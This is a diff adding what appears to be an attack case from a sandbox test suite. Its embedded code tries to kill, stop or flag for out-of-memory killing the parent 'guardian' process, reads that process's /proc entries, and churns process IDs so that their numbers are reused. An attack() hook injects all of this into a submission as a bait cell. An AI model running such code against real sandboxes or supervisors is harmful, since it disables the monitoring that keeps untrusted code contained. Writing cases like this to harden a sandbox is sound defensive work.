@@ -1,0 +1,30 @@
+"""Goes for the guardian, the fork servers and their folders: kills, stops, floods and starves them, and
+makes the guardian kill somebody else by using up process numbers."""
+
+CODE = r"""
+import os, signal, time
+
+guardian = os.getppid()
+tried(
+    lambda: os.kill(guardian, signal.SIGKILL),
+    lambda: os.kill(guardian, signal.SIGSTOP),
+    lambda: open(f"/proc/{guardian}/oom_score_adj", "w").write("1000"),
+    lambda: open(f"/proc/{guardian}/stat").read(),
+    lambda: os.listdir(f"/proc/{guardian}/task"),
+)
+# Children that end at once and are collected late: their numbers come round again.
+end = time.monotonic() + 2
+while time.monotonic() < end:
+    try:
+        pid = os.posix_spawn("/bin/true", ["true"], {})
+        os.waitpid(pid, 0)
+    except OSError:
+        pass
+os.chdir("/")
+os.kill(0, signal.SIGCONT)
+os.kill(os.getpid(), signal.SIGSTOP)
+"""
+
+
+def attack(submission):
+    submission.add(submission.bait.cell(CODE))
